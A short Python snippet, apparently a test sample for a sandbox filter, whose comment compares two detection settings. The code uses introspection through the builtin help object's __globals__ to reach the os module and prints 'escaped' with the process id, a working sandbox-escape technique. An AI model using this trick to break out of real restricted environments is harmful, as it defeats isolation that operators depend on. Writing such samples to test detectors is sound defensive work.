# help imports what it is asked for | ratio1 misses | strict catches | proves pid
site = help.__class__.__init__.__globals__ if hasattr(help.__class__, '__init__') and hasattr(help.__class__.__init__, '__globals__') else help.__class__.__call__.__globals__
print('escaped', site['sys'].modules['os'].getpid())
